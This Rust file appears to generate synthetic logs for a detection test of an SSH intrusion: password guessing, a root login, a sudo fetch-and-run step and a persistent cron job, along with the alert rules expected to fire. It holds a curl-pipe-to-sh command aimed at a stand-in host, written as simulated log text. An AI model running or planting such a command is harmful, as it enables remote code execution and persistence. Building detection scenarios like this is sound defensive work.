//! `ssh-foothold`: guessing, a password that fits, a script fetched with sudo, and a cron job that stays.

use std::time::Duration;

use super::Promise;
use super::story::Story;
use crate::entry::{Body, Entry};
use crate::site::Kind;
use crate::source::linux::{CRON, failed, sshd, sudo};
use crate::source::{Scene, intruder};

/// Rules that must raise an alert.
pub(super) const PROMISES: [Promise; 4] = [
    Promise { rule: "3ceaaf30-8142-48ea-91d9-3080f9b439fc", title: "SSH login with a user that does not exist" },
    Promise { rule: "9dfb369b-ab13-4fae-a276-55daa05f1119", title: "Root logged in over SSH with a password" },
    Promise { rule: "6fced11d-2bd8-41e6-847a-8387cdde8d51", title: "Command run as root fetches a script and runs it" },
    Promise {
        rule: "32d89717-46fe-4c17-8609-d16ff73d15be",
        title: "Scheduled command fetches code or opens a shell to the network",
    },
];

const GUESSES: [&str; 12] =
    ["admin", "oracle", "test", "ubuntu", "postgres1", "git", "guest", "support", "camera", "pi", "hocsinh", "quantri"];
const FETCH: &str = "curl -fsS http://198.51.100.254/u | sh";

pub(super) fn tell(story: &mut Story<'_>) -> Option<()> {
    let site = story.site(Kind::Ward, None)?;
    let from = intruder(story.dice());
    story.life(&site, 2);
    for (round, user) in GUESSES.iter().cycle().take(30).enumerate() {
        story.wait(Duration::from_millis(350));
        let port = story.dice().port();
        let text = match round % 3 {
            2 => failed("root", from, port),
            _ => format!("Failed password for invalid user {user} from {from} port {port} ssh2"),
        };
        story.tell(&site, |scene| sshd(scene, text));
        if round % 8 == 7 {
            story.life(&site, 1);
        }
    }
    let port = story.dice().port();
    let exceeded =
        format!("error: maximum authentication attempts exceeded for root from {from} port {port} ssh2 [preauth]");
    story.tell(&site, |scene| sshd(scene, exceeded));
    story.wait(Duration::from_secs(3));
    let accepted = format!("Accepted password for root from {from} port {port} ssh2");
    story.tell(&site, |scene| sshd(scene, accepted));
    story.life(&site, 3);
    story.wait(Duration::from_secs(2));
    story.tell(&site, |scene| sudo(scene, "root", "root", &format!("/bin/sh -c {FETCH}")));
    story.life(&site, 2);
    story.wait(Duration::from_secs(2));
    story.tell(&site, |scene| sudo(scene, "root", "root", "/usr/bin/crontab -u root /tmp/.x"));
    for _ in 0..3 {
        story.life(&site, 1);
        story.wait(Duration::from_secs(2));
        story.tell(&site, scheduled);
    }
    Some(())
}

/// The job that the intruder left runs.
fn scheduled(scene: &mut Scene<'_>) -> Entry {
    scene.entry("srv", "CRON", CRON, Body::Text(format!("(root) CMD ({FETCH})")))
}
